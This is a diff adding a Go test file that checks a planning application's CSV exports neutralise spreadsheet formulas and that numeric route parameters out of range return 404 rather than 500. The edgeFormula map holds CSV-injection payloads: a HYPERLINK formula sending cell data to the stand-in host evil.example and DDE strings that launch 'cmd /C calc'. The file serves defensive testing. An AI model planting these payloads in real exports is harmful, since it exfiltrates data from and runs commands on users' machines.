@@ -1,0 +1,201 @@
+package server_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"traguardo/internal/domain"
+	"traguardo/internal/interchange"
+	"traguardo/internal/plan"
+	"traguardo/internal/server"
+	"traguardo/internal/store"
+	"traguardo/web/paths"
+)
+
+// The edges of issue 19: formula-safe CSV, route parameters past their
+// range, the public open data and look-alike names.
+
+// edgeValidate sends the 2023 Relazione and records the Nucleo's validation
+// of version 1 through the store, with a stand-in PDF (the printing is not
+// what these tests are about) and the JSON export the server would freeze.
+func edgeValidate(t *testing.T, e *secEnv) {
+	t.Helper()
+	rpSend(t, e)
+	ctx := context.Background()
+	today := domain.Today(time.Now())
+	export := func(c *plan.Cycle) ([]byte, error) {
+		var b bytes.Buffer
+		err := interchange.Encode(&b, c, e.st.Clock().Today())
+		return b.Bytes(), err
+	}
+	c, err := e.st.LoadCycle(ctx, 2023)
+	if err != nil {
+		t.Fatal(err)
+	}
+	doc, err := export(c)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := e.st.ValidateReport(ctx, store.Actor{Name: "Nucleo di prova"}, 2023, 1, store.Validation{
+		Outcome: plan.ReportValidated, On: today, TextHTML: "<p>Il Nucleo valida la Relazione.</p>",
+		PDF: []byte("%PDF-1.4 stand-in"), JSON: doc, Export: export}); err != nil {
+		t.Fatalf("validating version 1: %v", err)
+	}
+}
+
+// edgeFormula are the texts a spreadsheet would run as formulas.
+var edgeFormula = map[string]string{
+	"title":       `=HYPERLINK("http://evil.example/?d="&A1,"Clicca")`,
+	"centre":      `@SUM(1+1)*cmd|' /C calc'!A0`,
+	"indicator":   `+1+cmd|' /C calc'!A0`,
+	"description": `-2+3+cmd|' /C calc'!A0`,
+	"other title": "\t=1+1",
+	"section":     "\r=1+1",
+}
+
+// edgeSetFormulas writes edgeFormula into the first objective of 2023, its
+// centre and its first indicator, and the last objective, straight into the database (as an import
+// of old would have left them).
+func edgeSetFormulas(t *testing.T, e *secEnv) {
+	t.Helper()
+	ctx := context.Background()
+	for _, q := range []struct {
+		sql  string
+		args []any
+	}{
+		{`UPDATE objectives SET title = $1, section = $2 WHERE id = $3`, []any{edgeFormula["title"], edgeFormula["section"], e.objectiveID}},
+		{`UPDATE centres SET name = $1 WHERE id = (SELECT centre_id FROM cycle_centres WHERE id = $2)`, []any{edgeFormula["centre"], e.centreID}},
+		{`UPDATE objectives SET title = $1 WHERE id = $2`, []any{edgeFormula["other title"], e.spareID}},
+		{`UPDATE indicators SET name = $1, description = $2 WHERE id = (SELECT min(id) FROM indicators WHERE objective_id = $3)`,
+			[]any{edgeFormula["indicator"], edgeFormula["description"], e.objectiveID}},
+	} {
+		if tag, err := e.pool.Exec(ctx, q.sql, q.args...); err != nil || tag.RowsAffected() != 1 {
+			t.Fatalf("%s: %v (%d rows)", q.sql, err, tag.RowsAffected())
+		}
+	}
+}
+
+var edgeNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
+
+// edgeCheckCSV fails t when a cell of body would start a formula, or when
+// a text of edgeFormula is missing (quoted) from it.
+func edgeCheckCSV(t *testing.T, what, body string) {
+	t.Helper()
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatalf("%s: %v", what, err)
+	}
+	cells := map[string]bool{}
+	for _, row := range rows {
+		for _, cell := range row {
+			cells[cell] = true
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !edgeNumber.MatchString(cell) {
+				t.Errorf("%s: a cell starts a formula: %q", what, cell)
+			}
+		}
+	}
+	for k, v := range edgeFormula {
+		if !cells["'"+v] {
+			t.Errorf("%s: the %s %q is not there with a leading quote", what, k, v)
+		}
+	}
+}
+
+// TestCSV_FormulaSafe: titles, names and texts that begin with =, +, -, @,
+// a tab or a carriage return never start a cell in the report's CSV or in
+// the public indicators.csv; they are there, behind a single quote; the
+// numbers are numbers.
+func TestCSV_FormulaSafe(t *testing.T) {
+	t.Parallel()
+	e := rpEnv(t)
+	edgeSetFormulas(t, e)
+	dir := e.signedIn(t, "direttore")
+	r := dir.get("/cicli/2023/relazione.csv")
+	if r.Status != http.StatusOK {
+		t.Fatalf("relazione.csv: %d", r.Status)
+	}
+	edgeCheckCSV(t, "relazione.csv", r.Body)
+
+	edgeValidate(t, e)
+	pub := e.client(t).get(paths.TransparencyFile(2023, 1, paths.PublicCSV))
+	if pub.Status != http.StatusOK {
+		t.Fatalf("public CSV: %d", pub.Status)
+	}
+	edgeCheckCSV(t, "public CSV", pub.Body)
+	if !strings.Contains(pub.Body, ",2023,") && !strings.HasPrefix(strings.SplitN(pub.Body, "\n", 3)[1], "2023,") {
+		t.Errorf("public CSV: the year is not written as a number")
+	}
+}
+
+// edgeOutOfRange are values of each route parameter that name no record:
+// past int4 and int8, below the range, zero, negative.
+var edgeOutOfRange = map[string][]string{
+	"{year}":   {"2147483648", "99999999999999999999", "1999", "2101", "0", "-2023"},
+	"{id}":     {"9223372036854775808", "0", "-1"},
+	"{centre}": {"9223372036854775808", "0", "-1"},
+	"{aid}":    {"9223372036854775808", "0", "-1"},
+	"{iid}":    {"9223372036854775808", "0", "-1"},
+	"{pid}":    {"9223372036854775808", "0", "-1"},
+	"{nid}":    {"9223372036854775808", "0", "-1"},
+	"{cid}":    {"9223372036854775808", "0", "-1"},
+	"{n}":      {"2147483648", "9223372036854775808", "0", "-1"},
+}
+
+// TestRoutes_OutOfRangeParameters: every route with a number in its path,
+// asked with a number past its column's range (or below it), answers 404
+// to whoever may use the route, and never 500; the server logs no error
+// (newSecEnv's logger fails the test on one). A year past int4 was a 500
+// with an ERROR line, anonymously.
+func TestRoutes_OutOfRangeParameters(t *testing.T) {
+	t.Parallel()
+	e := newSecEnv(t, server.Config{})
+	clients := map[string]*secClient{}
+	for _, role := range secRoles {
+		clients[role] = e.signedIn(t, role)
+	}
+	asked := 0
+	for _, route := range secRoutes(t, e.handler) {
+		method, pattern, _ := strings.Cut(route, " ")
+		if method != http.MethodGet && method != http.MethodPost {
+			continue
+		}
+		for param, values := range edgeOutOfRange {
+			if !strings.Contains(pattern, param) {
+				continue
+			}
+			for _, v := range values {
+				valid := e.path(t, method+" "+strings.ReplaceAll(pattern, param, "\x00"))
+				p := strings.ReplaceAll(valid, "\x00", v)
+				got404 := false
+				for role, c := range clients {
+					var r *secResponse
+					if method == http.MethodGet {
+						r = c.get(p)
+					} else {
+						r = c.post(p, url.Values{})
+					}
+					asked++
+					switch r.Status {
+					case http.StatusNotFound:
+						got404 = true
+					case http.StatusInternalServerError:
+						t.Errorf("%s %s as %s: 500", method, p, role)
+					}
+				}
+				if !got404 {
+					t.Errorf("%s %s: no role got 404", method, p)
+				}
+			}
+		}
+	}
+	if asked < 500 {
+		t.Fatalf("only %d requests: the routes were not found", asked)
+	}
+}
